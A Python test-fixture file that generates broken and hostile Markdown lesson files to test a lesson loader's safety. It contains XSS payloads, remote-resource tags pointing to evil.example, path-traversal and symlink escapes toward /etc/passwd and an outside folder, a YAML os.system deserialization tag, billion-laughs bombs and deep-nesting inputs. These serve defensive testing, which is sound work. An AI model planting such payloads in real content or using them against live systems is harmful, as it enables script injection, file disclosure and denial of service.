"""Broken and hostile lesson files, generated at test time (nothing large is committed).

Every case is (name, expectation, builder). A builder writes the case into a lesson folder and
returns the lesson file. expectation: "loads" (no errors), "error" (reported as path:line:col), or
"either" (may load, must render safely).
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

FRONT = "---\nid: hostile\ntitle: Hostile lesson\nmodule: Hostile\norder: 1\n---\n\n"
QUIZ = "::: quiz q1\n### Which one? {#qa}\n- [x] Right\n- [ ] Wrong\n:::\n"


def _text(body: str, front: str = FRONT) -> Callable[[Path], bytes]:
    return lambda folder: (front + body).encode("utf-8")


def _prose(html: str) -> Callable[[Path], bytes]:
    return _text(f"## Step\n\nSome text.\n\n{html}\n\nMore text.\n")


def _billion_laughs(key: str) -> Callable[[Path], bytes]:
    anchors = ['lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        anchors.append(f"lol{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    front = "---\nid: laughs\ntitle: Laughs\nmodule: Hostile\norder: 1\n" + "\n".join(anchors)
    front += f"\n{key}: *a9\n---\n\n## Step\n\nText.\n"
    return lambda folder: front.encode()


def _symlinked_lesson(folder: Path) -> bytes | None:
    target = folder.parent / "outside" / "secret.md"
    (folder / "lesson.md").symlink_to(target)
    return None


def _symlinked_image(folder: Path) -> bytes:
    (folder / "images").mkdir(exist_ok=True)
    (folder / "images" / "pic.png").symlink_to(folder.parent / "outside" / "secret.png")
    return (FRONT + "## Step\n\n![linked](images/pic.png)\n").encode()


def _symlinked_image_folder(folder: Path) -> bytes:
    (folder / "images").symlink_to(folder.parent / "outside", target_is_directory=True)
    return (FRONT + "## Step\n\n![linked folder](images/secret.png)\n").encode()


def _ten_thousand_questions(folder: Path) -> bytes:
    questions = "".join(f"### Question {i} {{#q{i}}}\n- [x] Yes\n- [ ] No\n\n" for i in range(10_000))
    return (FRONT + "## Many\n\n::: quiz many\n" + questions + ":::\n").encode()


def _long_scenario(folder: Path) -> bytes:
    # a chain written backwards: the worst order for naive reachability checks
    nodes = ["### End {#n5000}\nEnding: done\nScore: 1\n"]
    nodes += [f"### Node {i} {{#n{i}}}\n- [Next](#n{i + 1})\n" for i in range(4999, -1, -1)]
    nodes[-1], nodes[0] = nodes[0], nodes[-1]
    return (FRONT + "## Chain\n\n::: scenario chain\n" + "\n".join(nodes) + ":::\n").encode()


CASES: list[tuple[str, str, Callable[[Path], bytes | None]]] = [
    # -- not text at all ------------------------------------------------------------------------
    ("binary-garbage-small", "error", lambda f: random.Random(1).randbytes(512)),
    ("binary-garbage-large", "error", lambda f: random.Random(2).randbytes(1_500_000)),
    ("png-renamed-to-md", "error", lambda f: b"\x89PNG\r\n\x1a\n" + random.Random(3).randbytes(300)),
    ("nul-in-the-middle", "error", lambda f: (FRONT + "## Step\n\nText\x00more\n").encode()),
    ("invalid-utf8-latin1", "error", lambda f: (FRONT + "## Caf\xe9\n\nText.\n").encode("latin-1")),
    ("invalid-utf8-in-front-matter", "error", lambda f: b"---\nid: x\ntitle: \xff\xfe\nmodule: m\norder: 1\n---\n"),
    ("utf16-with-bom", "error", lambda f: (FRONT + "## Step\n\nText.\n").encode("utf-16")),
    ("empty-file", "error", lambda f: b""),
    ("only-whitespace", "error", lambda f: b"   \n\n\t\n"),
    # -- how editors save text --------------------------------------------------------------------
    ("notepad-bom-crlf", "loads", lambda f: ("\ufeff" + FRONT + "## Step\n\nText.\n\n" + QUIZ).replace(
        "\n", "\r\n").encode("utf-8")),
    ("old-mac-cr-only", "loads", lambda f: (FRONT + "## Step\n\nText.\n").replace("\n", "\r").encode()),
    ("mixed-line-endings", "loads", lambda f: (FRONT + "## Step\r\n\nText.\r\n" + QUIZ).encode()),
    # -- too big, too many, too deep -----------------------------------------------------------------
    ("ten-megabytes", "error", lambda f: (FRONT + "## Big\n\n" + "All work and no play. " * 480_000).encode()),
    ("ten-thousand-questions", "either", _ten_thousand_questions),
    ("one-megabyte-line", "either", _text("## Step\n\n" + "word " * 200_000 + "\n")),
    ("scenario-chain-5000-nodes", "loads", _long_scenario),
    ("ten-thousand-steps", "either", _text("".join(f"## Step {i}\n\nText {i}.\n\n" for i in range(10_000)))),
    ("nested-blockquotes", "either", _text("## Deep\n\n" + "> " * 5_000 + "deep\n")),
    ("nested-lists", "either", _text("## Deep\n\n" + "".join("  " * i + "- item\n" for i in range(600)))),
    ("nested-html-divs", "either", _prose("<div>" * 10_000 + "deep" + "</div>" * 10_000)),
    ("nested-emphasis", "either", _text("## Deep\n\n" + "*_" * 20_000 + "x" + "_*" * 20_000 + "\n")),
    ("nested-brackets", "either", _text("## Deep\n\n" + "[" * 50_000 + "x" + "](" * 5_000 + "\n")),
    ("image-brackets-storm", "either", _text("## Deep\n\n" + "![" * 50_000 + "\n")),
    ("nested-yaml", "error", lambda f: ("---\nid: x\ntitle: t\nmodule: m\norder: 1\ntags: " + "[" * 10_000
                                        + "]" * 10_000 + "\n---\n").encode()),
    ("nested-block-openers", "error", _text("## Step\n\n" + "::: quiz a\n" * 3_000)),
    ("untyped-block-openers", "error", _text("## Step\n\n" + "::: !x\n" * 10_000)),
    ("heading-whitespace-storm", "either", _text("## Step\n\n::: quiz q\n### " + " " * 50_000 + "x\n:::\n")),
    ("many-front-matter-keys", "error", lambda f: ("---\n" + "".join(f"k{i}: v\n" for i in range(10_000))
                                                   + "---\n").encode()),
    # -- unterminated ------------------------------------------------------------------------------
    ("unterminated-front-matter", "error", lambda f: b"---\nid: x\ntitle: t\nmodule: m\norder: 1\n\n## Step\n"),
    ("no-front-matter", "error", lambda f: b"## Step\n\nJust text.\n"),
    ("unterminated-quiz", "error", _text("## Step\n\n::: quiz q\n### Q {#qa}\n- [x] a\n")),
    ("unterminated-scenario", "error", _text("## Step\n\n::: scenario s\n### Start {#start}\n- [Go](#start)\n")),
    ("unterminated-code-fence", "either", _text("## Step\n\n```\ncode\n::: quiz q\n")),
    ("unterminated-html-comment", "either", _prose("<!-- never closed")),
    ("unterminated-html-tag", "either", _prose("<div class='x")),
    ("front-matter-is-a-list", "error", lambda f: b"---\n- a\n- b\n---\n\n## Step\n"),
    ("front-matter-bad-yaml", "error", lambda f: b"---\nid: [unclosed\ntitle: t\n---\n"),
    ("front-matter-python-tag", "error", lambda f: b"---\nid: !!python/object/apply:os.system ['echo hi']\n---\n"),
    # -- exponential YAML (billion laughs) -----------------------------------------------------------
    ("billion-laughs-tags", "either", _billion_laughs("tags")),
    ("billion-laughs-order", "error", _billion_laughs("order")),
    ("billion-laughs-title", "either", _billion_laughs("title")),
    ("billion-laughs-duration", "either", _billion_laughs("duration")),
    ("billion-laughs-objectives", "either", _billion_laughs("objectives")),
    ("billion-laughs-id", "error", _billion_laughs("id")),
    # -- duplicates --------------------------------------------------------------------------------
    ("duplicate-question-ids", "error", _text("## S\n\n::: quiz q\n### A {#same}\n- [x] a\n- [ ] b\n"
                                              "### B {#same}\n- [x] a\n- [ ] b\n:::\n")),
    ("duplicate-block-ids", "error", _text("## S\n\n" + QUIZ + "\n" + QUIZ.replace("{#qa}", "{#qb}"))),
    ("duplicate-front-matter-keys", "either", lambda f: (FRONT.replace("order: 1", "order: 1\norder: 2")
                                                         + "## S\n\nText.\n").encode()),
    # -- active content ------------------------------------------------------------------------------
    ("script-tag", "either", _prose("<script>alert('x')</script>")),
    ("script-in-quiz-choice", "either", _text("## S\n\n::: quiz q\n### Q <script>alert(1)</script> {#qa}\n"
                                              "- [x] <script>alert(2)</script>\n- [ ] b\n:::\n")),
    ("iframe", "either", _prose('<iframe src="https://evil.example/"></iframe>')),
    ("object-embed", "either", _prose('<object data="https://evil.example/x.swf"></object><embed src="x.swf">')),
    ("event-handler-img", "either", _prose('<img src="x.png" onerror="alert(1)">')),
    ("event-handler-link", "either", _prose('<a href="#" onclick="alert(1)" onmouseover="alert(2)">hi</a>')),
    ("svg-onload", "either", _prose('<svg onload="alert(1)"><circle r="4"/></svg>')),
    ("style-tag-remote-css", "either", _prose("<style>body{background:url(https://evil.example/bg.png)}</style>")),
    ("style-attribute-url", "either", _prose('<p style="background-image:url(https://evil.example/p.png)">x</p>')),
    ("link-stylesheet", "either", _prose('<link rel="stylesheet" href="https://evil.example/s.css">')),
    ("meta-refresh", "either", _prose('<meta http-equiv="refresh" content="0;url=https://evil.example/">')),
    ("base-href", "either", _prose('<base href="https://evil.example/">\n\n![pic](pic.png)')),
    ("table-background", "either", _prose('<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>')),
    ("form-action", "either", _prose('<form action="https://evil.example/"><input name="pin"></form>')),
    ("javascript-link", "either", _text("## S\n\n[click](javascript:alert(1))\n")),
    ("javascript-link-entities", "either", _prose('<a href="&#106;avascript:alert(1)">x</a>')),
    ("javascript-link-mixed-case", "either", _prose('<a href="JaVaScRiPt:alert(1)">x</a>')),
    ("vbscript-link", "either", _prose('<a href="vbscript:msgbox(1)">x</a>')),
    ("data-link", "either", _text("## S\n\n[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n")),
    ("data-image", "either", _prose('<img src="data:image/png;base64,iVBORw0KGgo=">')),
    # -- remote and outside resources -------------------------------------------------------------
    ("remote-image-markdown", "either", _text("## S\n\n![remote](https://evil.example/track.png)\n")),
    ("remote-image-http", "either", _prose('<img src="http://evil.example/track.png">')),
    ("protocol-relative-image", "either", _prose('<img src="//evil.example/track.png">')),
    ("file-url-image", "either", lambda f: (FRONT + f"## S\n\n![x](file://{f.parent}/outside/secret.png)\n").encode()),
    ("absolute-path-image", "error", lambda f: (FRONT + f"## S\n\n![x]({f.parent}/outside/secret.png)\n").encode()),
    ("image-climbs-out", "error", _text("## S\n\n![escape](../outside/secret.png)\n")),
    ("image-climbs-far", "error", _text("## S\n\n![escape](../../../../../../../../etc/passwd)\n")),
    ("html-image-climbs-out", "either", _prose('<img src="../outside/secret.png">')),
    ("encoded-dots-image", "either", _prose('<img src="%2e%2e/outside/secret.png">')),
    ("backslash-image", "either", _text("## S\n\n![win](..\\outside\\secret.png)\n")),
    ("feed-image-climbs-out", "error", _text("## S\n\n::: feed f\n### Someone {#p1}\nImage: ../outside/secret.png\n"
                                             "Some post.\n:::\n")),
    ("symlinked-lesson-outside", "error", _symlinked_lesson),
    ("symlinked-image-outside", "error", _symlinked_image),
    ("symlinked-image-folder-outside", "error", _symlinked_image_folder),
]


def build(case_name: str, root: Path) -> tuple[Path, Path]:
    """Write one case under root; return (lesson file, the folder outside it that must never be read)."""
    outside = root / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.md").write_text(FRONT + "## Secret\n\nOutside the lesson folder.\n")
    (outside / "secret.png").write_bytes(SECRET_PNG)
    folder = root / "lesson"
    folder.mkdir()
    _name, _expectation, builder = next(case for case in CASES if case[0] == case_name)
    data = builder(folder)
    path = folder / "lesson.md"
    if data is not None:
        path.write_bytes(data)
    return path, outside


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


# a 3x3 red PNG: if it ever shows up in a view, something read outside the lesson folder
SECRET_PNG = _png(3, 3)
assert len({name for name, _, _ in CASES}) == len(CASES)
